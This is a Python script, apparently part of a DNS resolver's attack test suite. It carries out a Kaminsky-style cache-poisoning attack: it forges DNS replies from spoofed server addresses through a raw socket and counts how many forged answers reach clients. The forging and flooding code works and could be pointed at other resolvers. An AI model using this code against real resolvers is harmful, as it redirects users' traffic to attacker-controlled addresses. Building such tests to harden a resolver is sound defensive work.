#!/usr/bin/env python3
"""A Kaminsky-style cache-poisoning attacker for tern's attack test (python stdlib, needs root for
the raw socket). Run by test_attacks.py as its own process; prints one JSON object at the end.

Each round: pick `names` random subdomains rndNNNNNNNN.<zone>, ask the resolver for all of them
(as a client would), and at the same moment spray `per_round` forged replies at the resolver's
address: source = one of the zone's real server addresses, port 53 (forged through a raw socket),
destination port random in [port_lo, port_hi] (the resolver's source ports are random and
unknown to us), random message ID, question = one of this round's names, answer = that name A
FORGED_ADDR, authority = <zone> NS ns.attacker.invalid., additional = www.<zone> A FORGED_ADDR.
Then collect the clients' replies (bounded wait) and record every address in them.

Bounded: rounds x per_round packets at most, each round's wait at most `wait_s`.

    kaminsky.py --resolver 127.63.255.1 --zone glue.com --auth 127.63.2.1,127.63.2.2 \
                --rounds 10 --names 10 --per-round 10000
"""
from __future__ import annotations

import argparse
import json
import random
import select
import socket
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from evilns import (FORGED_ADDR, FORGED_NS_TARGET, T_A, T_NS, Msg, Query, RawUdp,  # noqa: E402
                    build_query, parse_reply_addrs)


def forged_reply(qname: str, zone: str, qid: int) -> bytes:
    q = Query.parse(build_query(qname, T_A, qid, rd=False))
    m = Msg(q)
    m.add(0, qname, T_A, 86400, FORGED_ADDR)
    m.add(1, zone, T_NS, 86400, FORGED_NS_TARGET)
    m.add(2, f"www.{zone}", T_A, 86400, FORGED_ADDR)
    return m.encode()


def self_check(raw: RawUdp, src: str) -> bool:
    """The forging works: a forged datagram reaches a socket we own, from src:53."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    raw.send(src, 53, "127.0.0.1", port, b"forged-probe")
    raw.sent -= 1
    r, _, _ = select.select([s], [], [], 1.0)
    ok = False
    if r:
        data, peer = s.recvfrom(100)
        ok = data == b"forged-probe" and peer == (src, 53)
    s.close()
    return ok


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--resolver", required=True)
    ap.add_argument("--port", type=int, default=53)
    ap.add_argument("--zone", required=True)
    ap.add_argument("--auth", required=True, help="comma-separated addresses of the zone's servers")
    ap.add_argument("--rounds", type=int, default=10)
    ap.add_argument("--names", type=int, default=10)
    ap.add_argument("--per-round", type=int, default=10000)
    ap.add_argument("--port-lo", type=int, default=1024)
    ap.add_argument("--port-hi", type=int, default=65535)
    ap.add_argument("--wait-s", type=float, default=4.0)
    args = ap.parse_args()
    auths = args.auth.split(",")
    raw = RawUdp()
    out = dict(zone=args.zone, rounds=0, forged_sent=0, client_queries=0, replies=0, rcodes={},
               forged_in_replies=0, forged_examples=[], names=[], self_check=self_check(raw, auths[0]))
    t_start = time.monotonic()
    for _ in range(args.rounds):
        names = [f"rnd{random.getrandbits(32):08x}.{args.zone}" for _ in range(args.names)]
        templates = {n: forged_reply(n, args.zone, 0) for n in names}
        clients = []
        for n in names:
            c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            c.bind(("127.0.0.1", 0))
            c.sendto(build_query(n), (args.resolver, args.port))
            clients.append((n, c))
        out["client_queries"] += len(names)
        for _ in range(args.per_round):
            n = random.choice(names)
            b = bytearray(templates[n])
            b[0:2] = random.getrandbits(16).to_bytes(2, "big")
            raw.send(random.choice(auths), 53, args.resolver, random.randint(args.port_lo, args.port_hi), bytes(b))
        deadline = time.monotonic() + args.wait_s
        pending = dict((c.fileno(), (n, c)) for n, c in clients)
        while pending and time.monotonic() < deadline:
            r, _, _ = select.select([c for _, c in pending.values()], [], [], max(0.0, deadline - time.monotonic()))
            for c in r:
                n, _ = pending.pop(c.fileno())
                data = c.recv(65535)
                parsed = parse_reply_addrs(data)
                out["replies"] += 1
                if parsed is None:
                    out["rcodes"]["unparsable"] = out["rcodes"].get("unparsable", 0) + 1
                    continue
                _, rcode, addrs = parsed
                out["rcodes"][str(rcode)] = out["rcodes"].get(str(rcode), 0) + 1
                if FORGED_ADDR in addrs:
                    out["forged_in_replies"] += 1
                    if len(out["forged_examples"]) < 5:
                        out["forged_examples"].append(n)
        for _, c in clients:
            c.close()
        out["names"] += names
        out["rounds"] += 1
    out["forged_sent"] = raw.sent
    out["seconds"] = round(time.monotonic() - t_start, 2)
    raw.close()
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
